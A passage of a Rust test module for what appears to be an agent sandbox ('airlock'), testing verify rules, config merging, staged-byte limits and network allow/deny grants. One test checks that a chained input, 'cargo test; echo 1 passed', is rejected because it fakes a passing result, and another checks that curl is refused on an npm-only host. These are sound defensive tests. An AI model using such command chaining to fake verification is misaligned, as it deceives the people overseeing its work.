        assert!(e.to_string().starts_with("u.toml:3:"), "{e}");
    }

    #[test]
    fn verify_rules_match_the_command_text() {
        let r = Rule::parse("verify(cargo test*)").unwrap();
        let ok = ["cargo test -p x".to_string()];
        assert!(r.allows(&req("verify", ToolClass::Verify, &ok)));
        let chained = ["cargo test; echo 1 passed".to_string()];
        assert!(!r.allows(&req("verify", ToolClass::Verify, &chained)));
        assert!(!r.allows(&req("verify", ToolClass::Verify, &[])));
    }

    #[test]
    fn config_cannot_switch_on_unrestricted() {
        let mut c = Config::default();
        merge_file(
            &mut c,
            Path::new("c.toml"),
            "unrestricted = true\nprofile = \"unrestricted\"\n",
        )
        .unwrap();
        assert_eq!(c.notices.len(), 2);
        assert!(
            c.notices[0].contains("`profile` in c.toml:2"),
            "{:?}",
            c.notices
        );
        assert!(
            c.notices[1].contains("`unrestricted` in c.toml:1"),
            "{:?}",
            c.notices
        );
    }

    #[test]
    fn the_staged_bytes_ceiling_loads_from_the_user_config_only() {
        let ws = tempfile::tempdir().unwrap();
        let wsp = ws.path().canonicalize().unwrap();
        let user = ws.path().join("user.toml");
        std::fs::write(&user, "[limits]\nmax_staged_bytes = 1048576\n").unwrap();
        std::fs::create_dir_all(wsp.join(".airlock")).unwrap();
        std::fs::write(
            local_config_path(&wsp),
            "[limits]\nmax_staged_bytes = 999999999999\n",
        )
        .unwrap();
        let c = load_config(Some(&user), &wsp, true).unwrap();
        assert_eq!(c.max_staged_bytes, Some(1 << 20));
        assert!(
            c.notices
                .iter()
                .any(|n| n.contains("Ignored `max_staged_bytes`")),
            "{:?}",
            c.notices
        );
        assert_eq!(
            load_config(None, &wsp, false).unwrap().max_staged_bytes,
            None
        );
    }

    #[test]
    fn net_grants_load_from_the_user_config_only() {
        let ws = tempfile::tempdir().unwrap();
        let wsp = ws.path().canonicalize().unwrap();
        let user = ws.path().join("user.toml");
        std::fs::write(
            &user,
            format!(
                "[net]\nallow = [\"preset:cargo\", {{ host = \"registry.npmjs.org\", commands = [\"npm *\"] }}]\ndeny = [\"bad.example.com\"]\n[net.workspaces.\"{}\"]\nallow = [\"ws.example.com\"]\n[net.workspaces.\"/elsewhere\"]\nallow = [\"other.example.com\"]\n",
                wsp.display()
            ),
        )
        .unwrap();
        std::fs::create_dir_all(wsp.join(".airlock")).unwrap();
        std::fs::write(
            local_config_path(&wsp),
            "[net]\nallow = [\"local.example.com\"]\n",
        )
        .unwrap();
        let c = load_config(Some(&user), &wsp, true).unwrap();
        let p = c.net.resolve(|_| vec!["index.crates.io".into()]);
        assert!(p.decide("index.crates.io", 443, "cargo fetch").allowed);
        assert!(p.decide("registry.npmjs.org", 443, "npm ci").allowed);
        assert!(!p.decide("registry.npmjs.org", 443, "curl x").allowed);
        assert!(p.decide("ws.example.com", 443, "x").allowed);
        assert!(!p.decide("other.example.com", 443, "x").allowed);
        assert!(!p.decide("local.example.com", 443, "x").allowed);
        assert_eq!(
            p.decide("bad.example.com", 443, "x").rule,
            "net_denied_by_rule"
        );
        assert!(c.notices.iter().any(|n| n.contains("Ignored `[net]`")));
    }

    #[test]
    fn bad_net_grant_names_the_line() {
        let dir = tempfile::tempdir().unwrap();
        let user = dir.path().join("user.toml");
        std::fs::write(
            &user,
            "[net]\nallow = [\n  \"ok.example.com\",\n  \"https://x.example\",\n]\n",
        )
        .unwrap();
        let e = load_config(Some(&user), dir.path(), false)
            .unwrap_err()
            .to_string();
        assert!(e.contains(":4:") && e.contains("not a URL"), "{e}");
        std::fs::write(&user, "[net]\ndeny = [\"preset:npm\"]\n").unwrap();
        assert!(load_config(Some(&user), dir.path(), false).is_err());
    }
}
